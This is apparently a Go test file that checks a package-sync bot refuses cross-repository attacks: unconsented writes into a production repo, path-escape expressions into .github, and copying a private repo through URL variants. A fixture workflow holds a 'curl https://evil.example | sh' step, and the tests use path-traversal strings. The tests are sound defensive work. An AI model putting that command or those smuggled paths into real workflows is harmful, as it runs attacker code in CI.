@@ -1,0 +1,280 @@
+package bot
+
+import (
+	"context"
+	"fmt"
+	"net/http"
+	"strings"
+	"testing"
+
+	"github.com/kptbot/kptbot/forge"
+)
+
+// Attacks across repositories, through signed webhook deliveries into the
+// server, against the httptest GitHub (real git over HTTP): a
+// PackageVariantSet in one repository writing into another that did not
+// consent, and a PackageVariant copying a private repository into its
+// requester's.
+
+const pwnKptfile = `apiVersion: kpt.dev/v1
+kind: Kptfile
+metadata:
+  name: pwn
+`
+
+// pwnWorkflow is a GitHub workflow that is also a KRM resource, so it
+// renders as part of a package.
+const pwnWorkflow = `apiVersion: v1
+kind: ConfigMap
+metadata: {name: pwn}
+name: pwn
+on: push
+jobs:
+  x:
+    runs-on: ubuntu-latest
+    steps: [{run: "curl https://evil.example | sh"}]
+`
+
+// ghRepoFields describes r in a GitHub payload.
+func (w *ghWorld) repoFields(r forge.Repo) map[string]any {
+	owner, name, _ := strings.Cut(r.FullName, "/")
+	return map[string]any{"repository.full_name": r.FullName, "repository.name": name, "repository.owner.login": owner, "repository.owner.name": owner,
+		"repository.clone_url": w.gh.GitURL + r.FullName + ".git", "repository.default_branch": "main"}
+}
+
+// pushEvent delivers a signed push of ref (a branch or a tag) at sha in r,
+// by who, and fails the test unless it was queued.
+func (w *ghWorld) pushEvent(r forge.Repo, ref, sha, who string) {
+	w.t.Helper()
+	set := w.repoFields(r)
+	set["ref"], set["after"], set["before"], set["created"], set["deleted"], set["sender.login"] = ref, sha, forge.ZeroSHA, strings.HasPrefix(ref, "refs/tags/"), false, who
+	if st := w.deliver(0, "push", w.id(), w.payload("push/tag-created.ghes.payload.json", set)); st != http.StatusAccepted {
+		w.t.Fatalf("push of %s to %s: HTTP %d", ref, r.FullName, st)
+	}
+}
+
+// commit pushes files onto r's main as its owner would, and delivers the
+// push.
+func (w *ghWorld) commit(r forge.Repo, files map[string][]byte) string {
+	w.t.Helper()
+	c := w.client()
+	ctx := context.Background()
+	bs, err := c.ListBranches(ctx, r)
+	if err != nil {
+		w.t.Fatal(err)
+	}
+	var tip string
+	for _, b := range bs {
+		if b.Name == "main" {
+			tip = b.SHA
+		}
+	}
+	sha, err := c.PushFiles(ctx, r, "main", tip, tip, files, "edit")
+	if err != nil {
+		w.t.Fatal(err)
+	}
+	w.pushEvent(r, "refs/heads/main", sha, "alice")
+	return sha
+}
+
+func (w *ghWorld) tag(r forge.Repo, name, sha string) {
+	w.t.Helper()
+	if err := w.client().CreateTag(context.Background(), r, name, sha, name); err != nil {
+		w.t.Fatal(err)
+	}
+	w.pushEvent(r, "refs/tags/"+name, sha, "alice")
+}
+
+// untouched fails the test when r has anything but its main branch, an
+// open or merged pull request, or a file under .github on main.
+func (w *ghWorld) untouched(r forge.Repo) {
+	w.t.Helper()
+	ctx := context.Background()
+	c := w.client()
+	bs, _ := c.ListBranches(ctx, r)
+	if len(bs) != 1 || bs[0].Name != "main" {
+		w.t.Errorf("%s: branches %+v, want main only", r.FullName, bs)
+	}
+	if cs, _ := c.ListOpenChanges(ctx, r); len(cs) != 0 {
+		w.t.Errorf("%s: open changes %+v, want none", r.FullName, cs)
+	}
+	if m := w.gh.Merges(r); m != 0 {
+		w.t.Errorf("%s: %d merges, want none", r.FullName, m)
+	}
+	if snap, err := c.ReadTree(ctx, r, "main", ".github"); err == nil && len(snap.Files) > 0 {
+		w.t.Errorf("%s: .github on main holds %v", r.FullName, snap.Files)
+	}
+}
+
+// dashboardOf is r's dashboard issue body ("" when it has none).
+func (w *ghWorld) dashboardOf(r forge.Repo) string {
+	w.t.Helper()
+	is, err := w.client().ListIssues(context.Background(), r, DashboardLabel)
+	if err != nil {
+		w.t.Fatal(err)
+	}
+	if len(is) == 0 {
+		return ""
+	}
+	return is[0].Body
+}
+
+// TestAttackVariantSetWithoutConsent: a PackageVariantSet in a sandbox
+// repository targets a production repository requiring two approvals,
+// asks for updatePolicy publish and adoptExisting, and names paths into
+// .github. Nothing reaches production until production's own kptbot.yaml
+// accepts the sandbox; then the variant is proposed (production's policy,
+// not the set's publish), production's own package is not adopted, and
+// dot-directory or escaping paths stay refused.
+func TestAttackVariantSetWithoutConsent(t *testing.T) {
+	t.Parallel()
+	w := newGHWorld(t, 1)
+	prod := forge.Repo{Forge: forge.GitHub, FullName: "acme/prod", DefaultBranch: "main"}
+	sandbox := forge.Repo{Forge: forge.GitHub, FullName: "acme/sandbox", DefaultBranch: "main"}
+	prodCfg := "apiVersion: kptbot.dev/v1alpha1\nkind: Repository\nmetadata: {name: prod}\nspec:\n  approvals: {minimum: 2}\n"
+	w.gh.Seed(prod, "main", map[string][]byte{"kptbot.yaml": []byte(prodCfg), "app/Kptfile": []byte(strings.Replace(pwnKptfile, "pwn", "app", 1)), "app/cm.yaml": []byte(configMap)})
+	set := `apiVersion: kptbot.dev/v1alpha1
+kind: PackageVariantSet
+metadata: {name: takeover}
+spec:
+  upstream: {repo: acme/sandbox, package: pwn}
+  targets:
+    - repositories: [{name: acme/prod, packageNames: [ci, app]}]
+      template: {updatePolicy: publish, adoptionPolicy: adoptExisting}
+`
+	sha := w.gh.Seed(sandbox, "main", map[string][]byte{"kptbot.yaml": []byte(set), "pwn/Kptfile": []byte(pwnKptfile), "pwn/workflows/pwn.yml": []byte(pwnWorkflow)})
+	w.pushEvent(sandbox, "refs/heads/main", sha, "mallory")
+	w.tag(sandbox, "pwn/v1", sha)
+	w.pushEvent(prod, "refs/heads/main", w.mainOf(prod), "alice") // production reconciles too
+	w.untouched(prod)
+	if d := w.dashboardOf(sandbox); !strings.Contains(d, "PackageVariantSet takeover targets acme/prod, which does not accept variants from acme/sandbox") {
+		t.Errorf("the sandbox's dashboard does not say why: %s", d)
+	}
+
+	// Production consents: one proposal for the new package, not merged
+	// (production's updatePolicy, propose, not the set's publish); its
+	// own package app is not adopted (adoptNone, not the set's wish).
+	w.commit(prod, map[string][]byte{"kptbot.yaml": []byte(prodCfg + "  acceptVariantsFrom: [acme/sandbox]\n")})
+	if w.gh.Merges(prod) != 0 {
+		t.Fatal("the set's updatePolicy publish merged into production")
+	}
+	cs, err := w.client().ListOpenChanges(context.Background(), prod)
+	if err != nil || len(cs) != 1 || cs[0].HeadRef != "drafts/ci/kptbot-update" {
+		t.Fatalf("after consent: open changes %+v, %v; want one for ci (app is production's own, not adopted)", cs, err)
+	}
+
+	// A consented set still cannot write into a dot-directory or out of
+	// the package directory, whatever expression it uses.
+	for i, expr := range []string{`'.github'`, `'.github/workflows'`, `'ci/../.github'`, `'/abs'`, `'ci/.git/hooks'`} {
+		bad := fmt.Sprintf("%s---\napiVersion: kptbot.dev/v1alpha1\nkind: PackageVariantSet\nmetadata: {name: paths-%d}\nspec:\n  upstream: {repo: acme/sandbox, package: pwn}\n  targets:\n    - repositories: [{name: acme/prod}]\n      template:\n        downstream: {packageExpr: %q}\n", set, i, expr)
+		sha := w.commit(sandbox, map[string][]byte{"kptbot.yaml": []byte(bad)})
+		if d := w.dashboardOf(sandbox); !strings.Contains(d, fmt.Sprintf("PackageVariantSet paths-%d: spec.targets[0]: the downstream package", i)) {
+			t.Errorf("packageExpr %s: the sandbox's dashboard does not report the set: %s", expr, d)
+		}
+		w.tag(sandbox, fmt.Sprintf("pwn/v%d", i+2), sha)
+		w.pushEvent(prod, "refs/heads/main", w.mainOf(prod), "alice")
+		if cs, _ := w.client().ListOpenChanges(context.Background(), prod); len(cs) != 1 || cs[0].HeadRef != "drafts/ci/kptbot-update" {
+			t.Errorf("packageExpr %s: open changes %+v, want only ci's", expr, cs)
+		}
+	}
+	if snap, err := w.client().ReadTree(context.Background(), prod, "main", ".github"); err == nil && len(snap.Files) > 0 {
+		t.Errorf("production's .github: %v", snap.Files)
+	}
+	bs, _ := w.client().ListBranches(context.Background(), prod)
+	for _, b := range bs {
+		if strings.Contains(b.Name, ".git") || strings.Contains(b.Name, "app") {
+			t.Errorf("production has branch %s", b.Name)
+		}
+	}
+}
+
+func (w *ghWorld) mainOf(r forge.Repo) string {
+	w.t.Helper()
+	bs, err := w.client().ListBranches(context.Background(), r)
+	if err != nil {
+		w.t.Fatal(err)
+	}
+	for _, b := range bs {
+		if b.Name == "main" {
+			return b.SHA
+		}
+	}
+	w.t.Fatalf("%s has no main", r.FullName)
+	return ""
+}
+
+// TestAttackPrivateUpstreamAcrossOwners: mallory's repository follows a
+// private repository of another owner, by name and by URL variants; the
+// bot copies nothing, on her push or on the upstream's release, and says
+// why on her dashboard. The same owner's repository, and one the
+// upstream's kptbot.yaml lists in allowedDownstreams, do get the package.
+func TestAttackPrivateUpstreamAcrossOwners(t *testing.T) {
+	t.Parallel()
+	w := newGHWorld(t, 1)
+	jewels := forge.Repo{Forge: forge.GitHub, FullName: "secret/jewels", DefaultBranch: "main"}
+	share := "apiVersion: kptbot.dev/v1alpha1\nkind: Repository\nmetadata: {name: jewels}\nspec:\n  allowedDownstreams: [partner/site]\n"
+	sha := w.gh.Seed(jewels, "main", map[string][]byte{"kptbot.yaml": []byte(share), "keys/Kptfile": []byte(strings.Replace(pwnKptfile, "pwn", "keys", 1)),
+		"keys/secret.yaml": []byte("apiVersion: v1\nkind: Secret\nmetadata: {name: root}\nstringData: {password: hunter2}\n")})
+	w.gh.SetPrivate(jewels, true)
+	if err := w.client().CreateTag(context.Background(), jewels, "keys/v1", sha, "v1"); err != nil {
+		t.Fatal(err)
+	}
+	follow := func(name, repo string) string {
+		return fmt.Sprintf("---\napiVersion: kptbot.dev/v1alpha1\nkind: PackageVariant\nmetadata: {name: %s}\nspec:\n  upstream: {repo: %q, package: keys}\n  downstream: {package: %s}\n", name, repo, name)
+	}
+	host := strings.TrimPrefix(strings.TrimPrefix(w.gh.GitURL, "http://"), "https://")
+	loot := forge.Repo{Forge: forge.GitHub, FullName: "mallory/loot", DefaultBranch: "main"}
+	variants := []string{
+		"secret/jewels",
+		"SECRET/Jewels",
+		w.gh.GitURL + "secret/jewels.git",
+		w.gh.GitURL + "Secret/Jewels.git/",
+		"http://x-access-token:stolen@" + host + "secret/jewels",
+		"HTTP://" + strings.ToUpper(strings.TrimSuffix(host, "/")) + "/secret/jewels/",
+	}
+	var cfg strings.Builder
+	for i, ref := range variants {
+		cfg.WriteString(follow(fmt.Sprintf("k%d", i), ref))
+	}
+	lootSHA := w.gh.Seed(loot, "main", map[string][]byte{"kptbot.yaml": []byte(cfg.String())})
+	w.pushEvent(loot, "refs/heads/main", lootSHA, "mallory")
+	w.untouched(loot)
+	d := w.dashboardOf(loot)
+	for i := range variants {
+		if !strings.Contains(d, fmt.Sprintf("variant k%d: upstream not shared with this repository: secret/jewels is not public and not owned by mallory", i)) {
+			t.Errorf("the refusal of k%d (%s) is not on mallory's dashboard:\n%s", i, variants[i], d)
+		}
+	}
+	if strings.Contains(d, "hunter2") {
+		t.Fatal("the private content reached mallory's dashboard")
+	}
+
+	// The same owner's repository and the listed partner follow too; a
+	// release reaches them and not mallory.
+	site := forge.Repo{Forge: forge.GitHub, FullName: "secret/site", DefaultBranch: "main"}
+	partner := forge.Repo{Forge: forge.GitHub, FullName: "partner/site", DefaultBranch: "main"}
+	w.pushEvent(site, "refs/heads/main", w.gh.Seed(site, "main", map[string][]byte{"kptbot.yaml": []byte(follow("keys", "secret/jewels"))}), "alice")
+	w.pushEvent(partner, "refs/heads/main", w.gh.Seed(partner, "main", map[string][]byte{"kptbot.yaml": []byte(follow("keys", w.gh.GitURL+"secret/jewels.git"))}), "alice")
+	v2, err := w.client().PushFiles(context.Background(), jewels, "main", sha, sha, map[string][]byte{"keys/more.yaml": []byte("apiVersion: v1\nkind: ConfigMap\nmetadata: {name: more}\n")}, "v2")
+	if err != nil {
+		t.Fatal(err)
+	}
+	w.tag(jewels, "keys/v2", v2)
+	for _, r := range []forge.Repo{site, partner} {
+		cs, err := w.client().ListOpenChanges(context.Background(), r)
+		if err != nil || len(cs) != 1 || !strings.Contains(cs[0].Title, "clone") || !strings.Contains(cs[0].Title, "v2") {
+			t.Errorf("%s: open changes %+v, %v; want the clone of v2 it may read", r.FullName, cs, err)
+		}
+	}
+	w.untouched(loot)
+
+	// Made public, the upstream is anyone's to copy.
+	w.gh.SetPrivate(jewels, false)
+	if err := w.nodes[0].bot.RefreshIndex(context.Background()); err != nil { // a resync's listing
+		t.Fatal(err)
+	}
+	w.pushEvent(loot, "refs/heads/main", w.mainOf(loot), "mallory")
+	if cs, _ := w.client().ListOpenChanges(context.Background(), loot); len(cs) != len(variants) {
+		t.Errorf("public upstream: mallory's open changes %d, want %d", len(cs), len(variants))
+	}
+}
